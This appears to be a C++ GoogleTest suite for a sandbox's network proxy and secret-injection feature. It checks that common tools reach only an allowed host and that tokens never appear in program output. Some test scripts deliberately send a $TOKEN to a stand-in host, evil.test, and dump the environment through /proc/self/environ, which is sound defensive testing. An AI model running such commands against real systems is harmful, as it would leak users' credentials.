// Programs that people use, in cells with a proxy: each fetches something from the one host that is allowed, told of the
// proxy by nothing but its environment. And secrets that they use and never see.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>

#include "base/strings.h"
#include "e2e/cli.h"
#include "e2e/json.h"
#include "e2e/web_server.h"
#include "support/cells.h"

namespace hotcell::testing {
namespace {

class NetworkClients : public E2e {
 protected:
  Called sh(const std::string& script, std::vector<std::string> more = {}) const {
    std::vector<std::string> args = {"run", "--network", "proxy", "--allow-domain", "good.test", "--allow-private", "good.test", "--map-host",
                                     "good.test=127.0.0.1", "--map-host", "evil.test=127.0.0.1", "--state", state.path() + "/s",
                                     "--processes", "128", "--memory", "1G", "--open-files", "1024"};
    args.insert(args.end(), more.begin(), more.end());
    for (auto word : {"--", "/bin/sh", "-c"}) args.emplace_back(word);
    args.push_back(script);
    return hotcell(args);
  }
  std::string greeting(const std::string& path) const { return "hello from good.test:" + web.port() + path + "\n"; }
  bool was_asked(const std::string& path) const { return web.asked().find("good.test:" + web.port() + path + "\n") != std::string::npos; }
  TempDir state;
  WebServer web;
};

TEST_F(NetworkClients, Wget) {
  auto called = sh("wget -qO- " + web.url("good.test", "/w"));
  EXPECT_EQ(called.out, greeting("/w")) << called.describe();
  EXPECT_NE(sh("wget -qO- " + web.url("evil.test", "/w")).code, 0);
}

TEST_F(NetworkClients, Git) {
  TempDir repository;
  int code = -1;
  std::string folder = web.folder() + "/files/r";
  shell_output({"/bin/sh", "-c",
                "export HOME=" + repository.path() + "; set -e; git init -q " + folder + "/w; cd " + folder + "/w; echo text > file; git add file; "
                "git -c user.name=n -c user.email=e commit -qm first; git clone -q --bare . ../x; cd ../x; git update-server-info"},
               "", &code);
  ASSERT_EQ(code, 0);
  auto called = sh("git clone -q " + web.url("good.test", "/r/x") + " c && cat c/file");
  EXPECT_EQ(called.out, "text\n") << called.describe();
  EXPECT_NE(sh("git clone -q " + web.url("evil.test", "/r/x") + " c").code, 0);
}

TEST_F(NetworkClients, Pip) {
  web.file("/simple/none/index.html", "<html><body><a href=\"../../none-1.0.tar.gz\">none-1.0.tar.gz</a></body></html>");
  auto called = sh("pip index versions none 2>/dev/null || pip download -q --no-deps --no-build-isolation none; true",
                   {"--env", "PIP_INDEX_URL=" + web.url("good.test", "/simple"), "--env", "PIP_TRUSTED_HOST=good.test", "--env", "PIP_DISABLE_PIP_VERSION_CHECK=1"});
  EXPECT_TRUE(was_asked("/simple/none/")) << called.describe() << web.asked();
  EXPECT_NE(called.out.find("1.0"), std::string::npos) << called.describe();
}

TEST_F(NetworkClients, Npm) {
  web.file("/none", R"({"name":"none","dist-tags":{"latest":"1.2.3"},"versions":{"1.2.3":{"name":"none","version":"1.2.3","dist":{"tarball":"http://good.test/x.tgz"}}}})");
  auto called = sh("npm view none version", {"--env", "npm_config_registry=" + web.url("good.test", "/"), "--env", "npm_config_update_notifier=false"});
  EXPECT_EQ(called.out, "1.2.3\n") << called.describe();
}

TEST_F(NetworkClients, Node) {
  auto called = sh("node -e \"fetch('" + web.url("good.test", "/n") + "').then(r=>r.text()).then(t=>process.stdout.write(t))\"");
  EXPECT_EQ(called.out, greeting("/n")) << called.describe();
  called = sh("node -e \"require('http').get('" + web.url("good.test", "/h") + "',r=>r.pipe(process.stdout))\"");
  EXPECT_EQ(called.out, greeting("/h")) << called.describe();
  called = sh("node -e \"fetch('" + web.url("evil.test", "/n") + "').catch(e=>{console.log(e.cause.message);process.exit(3)})\"");
  EXPECT_EQ(called.code, 3) << called.describe();
  EXPECT_NE(called.out.find("not on the list of allowed hosts"), std::string::npos) << called.describe();
  // What is the cell's own is not the proxy's: nobody listens there, and that is what is said.
  called = sh("node -e \"fetch('http://127.0.0.1:8099/').catch(e=>console.log(e.cause.code))\"");
  EXPECT_EQ(called.out, "ECONNREFUSED\n") << called.describe();
}

TEST_F(NetworkClients, Deno) {
  auto deno = [&](const std::string& host) {
    return hotcell({"run", "--network", "proxy", "--allow-domain", "good.test", "--allow-private", "good.test", "--map-host", "good.test=127.0.0.1",
                    "--map-host", "evil.test=127.0.0.1", "--state", state.path() + "/s", "--language", "deno", "-c",
                    "console.log((await (await fetch('" + web.url(host, "/d") + "')).text()).trim())\n"});
  };
  auto called = deno("good.test");
  EXPECT_EQ(called.out, greeting("/d")) << called.describe();
  called = deno("evil.test");
  EXPECT_NE(called.err.find("NotCapable"), std::string::npos) << "Deno itself knows who is allowed: " << called.describe();
}

TEST_F(NetworkClients, Java) {
  auto called = sh("cat > F.java <<'E'\nimport java.net.*;\nclass F { public static void main(String[] a) throws Exception {\n"
                   "System.out.print(new String(new URL(a[0]).openStream().readAllBytes())); } }\nE\njava -Xshare:auto -XX:TieredStopAtLevel=1 F.java " +
                   web.url("good.test", "/j"));
  EXPECT_EQ(called.out, greeting("/j")) << called.describe();
}

TEST_F(NetworkClients, Go) {
  web.file("/mod.test/m/@v/list", "v1.4.0\n");
  web.file("/mod.test/m/@v/v1.4.0.info", R"({"Version":"v1.4.0","Time":"2020-01-01T00:00:00Z"})");
  auto called = sh("go list -m -versions mod.test/m", {"--env", "GOPROXY=" + web.url("good.test", ""), "--env", "GONOSUMDB=*", "--env", "GOFLAGS=-mod=mod"});
  EXPECT_EQ(called.out, "mod.test/m v1.4.0\n") << called.describe();
}

TEST_F(NetworkClients, Cargo) {
  auto called = sh("mkdir -p p/src .cargo && cd p && printf '[package]\\nname=\"p\"\\nversion=\"0.1.0\"\\n[dependencies]\\nnone={version=\"1\",registry=\"r\"}\\n' > Cargo.toml && "
                   "touch src/lib.rs && cargo fetch",
                   {"--env", "CARGO_REGISTRIES_R_INDEX=" + web.url("good.test", "/r/x"), "--env", "CARGO_NET_GIT_FETCH_WITH_CLI=true", "--env", "CARGO_NET_RETRY=0"});
  // Its index is a git repository that is not there; that it was asked for is what counts.
  EXPECT_NE(web.asked().find("/r/x/info/refs"), std::string::npos) << called.describe();
}

// Secrets
class NetworkSecrets : public NetworkClients {
 protected:
  // With the secret in the caller's environment, and the server's own certificate as the only one that is trusted.
  std::string secret(const WebServer& server, const std::string& script, std::vector<std::string> more = {}) {
    std::vector<std::string> args = {"/usr/bin/env", "-i", "PATH=/usr/bin:/bin", "TOKEN=" + value, hotcell_path(), "run", "--network", "proxy",
                                     "--secret", "TOKEN@good.test", "--allow-domain", "evil.test", "--allow-private", "127.0.0.1",
                                     "--map-host", "good.test=127.0.0.1", "--map-host", "evil.test=127.0.0.1", "--state", state.path() + "/s"};
    if (server.url("x").starts_with("https")) args.insert(args.begin() + 2, "SSL_CERT_FILE=" + server.folder() + "/cert");
    args.insert(args.end(), more.begin(), more.end());
    for (auto word : {"--", "/bin/sh", "-c"}) args.emplace_back(word);
    args.push_back(script);
    return shell_output(args, "", &code);
  }
  std::string value = "tok_Real-1234567890";
  int code = -1;
};

TEST_F(NetworkSecrets, AreUsedAndNeverSeen) {
  auto text = secret(web, "echo $TOKEN; env; cat /proc/self/environ | tr '\\0' '\\n'; curl -sS -H \"X-T: $TOKEN\" " + web.url("good.test", "/headers") +
                              "; curl -sS -o /dev/null -u \"user:$TOKEN\" " + web.url("good.test", "/basic"));
  EXPECT_EQ(code, 0) << text;
  EXPECT_EQ(text.find(value), std::string::npos) << text;
  // The server had it: it said it back, and that came in as the placeholder again.
  auto line = text.substr(0, text.find('\n'));
  EXPECT_EQ(line.size(), value.size()) << text;
  EXPECT_NE(text.find("X-T: " + line), std::string::npos) << text;
}

TEST_F(NetworkSecrets, TheServerGetsTheValue) {
  // In an address it is written with percent signs where it must be; the server's own log has it.
  secret(web, "curl -sS -o /dev/null \"" + web.url("good.test", "/q?key=") + "$TOKEN\"");
  EXPECT_NE(web.asked().find("/q?key=" + value), std::string::npos) << web.asked();
  // Another host is told the placeholder.
  auto text = secret(web, "curl -sS -o /dev/null \"" + web.url("evil.test", "/e?key=") + "$TOKEN\"");
  EXPECT_EQ(code, 0) << text;
  EXPECT_NE(web.asked().find("evil.test:" + web.port() + "/e?key=hc"), std::string::npos) << web.asked() << text;
  EXPECT_EQ(web.asked().find("/e?key=" + value), std::string::npos);
  auto log = hotcell({"proxy", "log", "--state", state.path() + "/s"});
  EXPECT_NE(log.out.find("good.test"), std::string::npos) << log.describe();
  EXPECT_EQ(log.out.find(value), std::string::npos);
}

TEST_F(NetworkSecrets, OverTlsWithAnAuthorityOfTheCellsOwn) {
  WebServer tls(WebServer::Kind::kTls);
  auto text = secret(tls, "curl -sS -o /dev/null \"" + tls.url("good.test", "/q?key=") + "$TOKEN\" && curl -sS -H \"Authorization: Bearer $TOKEN\" " + tls.url("good.test", "/headers"));
  EXPECT_EQ(code, 0) << text;
  EXPECT_NE(tls.asked().find("/q?key=" + value), std::string::npos) << tls.asked() << text;
  EXPECT_NE(text.find("Authorization: Bearer hc"), std::string::npos) << text;
  EXPECT_EQ(text.find(value), std::string::npos) << text;
  // Python, which brings its own way of trusting.
  text = secret(tls, "python3 -c \"import os,urllib.request as u; print(u.urlopen(u.Request('" + tls.url("good.test", "/headers") + "', headers={'X-T': os.environ['TOKEN']})).status)\"");
  EXPECT_EQ(text, "200\n");
  // A request with a body.
  text = secret(tls, "head -c 300000 /dev/zero | tr '\\0' x | curl -sS -H 'Expect:' --data-binary @- " + tls.url("good.test", "/headers") + " | wc -c");
  EXPECT_GT(std::atoi(text.c_str()), 300000) << text;
}

// What the proxy makes of the value, in base64 and with percent signs, comes back as the same of the placeholder. Without its
// digits the output would not be cleaned of it once more; no placeholder has a 1.
TEST_F(NetworkSecrets, EchoesOfWhatTheProxyWroteAreCleaned) {
  WebServer tls(WebServer::Kind::kTls);
  value = "p/w+d=1234567&x%zz";
  for (const WebServer* server : {&web, &tls}) {
    auto text = secret(*server, "for user in u us use; do curl -sS -D head -u \"$user:$TOKEN\" " + server->url("good.test", "/headers") +
                                    " | sed -n 's/^Authorization: Basic //p' | base64 -di | tr -d 1; echo; done; echo \"$TOKEN\" | cut -c 3-; grep -ic content-length head");
    EXPECT_EQ(text.find("234567"), std::string::npos) << text;
    auto lines = split(text, '\n');
    ASSERT_GE(lines.size(), 5u) << text;
    for (std::size_t i = 0; i < 3; ++i) EXPECT_TRUE(lines[i].ends_with(lines[3])) << text;
    EXPECT_EQ(lines[4], "1") << text;
    text = secret(*server, "curl -sS \"" + server->url("good.test", "/path?t=") + "$TOKEN\" -H \"X-T: $TOKEN\" | tr -d 1; echo; echo \"$TOKEN\"");
    EXPECT_NE(server->asked().find("/path?t=p%2Fw%2Bd%3D1234567%26x%25zz"), std::string::npos) << server->asked() << text;
    EXPECT_EQ(text.find("234567"), std::string::npos) << text;
  }
}

// A host without a secret answers with its value: past the proxy nobody but us can take it out.
TEST_F(NetworkSecrets, WhatTheProxyCannotSeeIsCleanedFromTheOutput) {
  web.file("/leak", value + "\n");
  const std::string fetch = "curl -sS -o leak " + web.url("evil.test", "/leak") + "; ";
  EXPECT_EQ(secret(web, fetch + "wc -c < leak; tr -d 0-9 < leak"), std::to_string(value.size() + 1) + "\ntok_Real-\n") << "the control: the program has it";
  auto text = secret(web, fetch + "echo $TOKEN; cat leak; cat leak >&2; head -c 7 leak; sleep 0.3; tail -c +8 leak");
  EXPECT_EQ(text.find(value), std::string::npos) << text;
  const std::string placeholder = text.substr(0, value.size());
  std::size_t count = 0;
  for (std::size_t at = 0; (at = text.find(placeholder, at)) != text.npos; ++at) ++count;
  EXPECT_GE(count, 3u) << text;
  text = secret(web, fetch + "cat leak; cat leak >&2", {"--json"});
  EXPECT_NE(text.find("\"stdout\":\"hc"), std::string::npos) << text;
  EXPECT_EQ(text.find(value), std::string::npos) << text;
}

TEST_F(NetworkSecrets, AServerThatIsNotTheOneGetsNothing) {
  WebServer tls(WebServer::Kind::kTls), other(WebServer::Kind::kTls);
  // The certificate that is trusted is another server's.
  auto text = secret(tls, "curl -sS \"" + other.url("good.test", "/q?key=") + "$TOKEN\"");
  EXPECT_NE(text.find("is not who it says"), std::string::npos) << text;
  EXPECT_EQ(other.asked(), "");
}

TEST_F(NetworkSecrets, MustBeThere) {
  auto called = sh("true", {"--secret", "NOT_SET_ANYWHERE@good.test"});
  EXPECT_EQ(called.code, 125) << called.describe();
  EXPECT_NE(called.err.find("is not set"), std::string::npos) << called.err;
}

}  // namespace
}  // namespace hotcell::testing
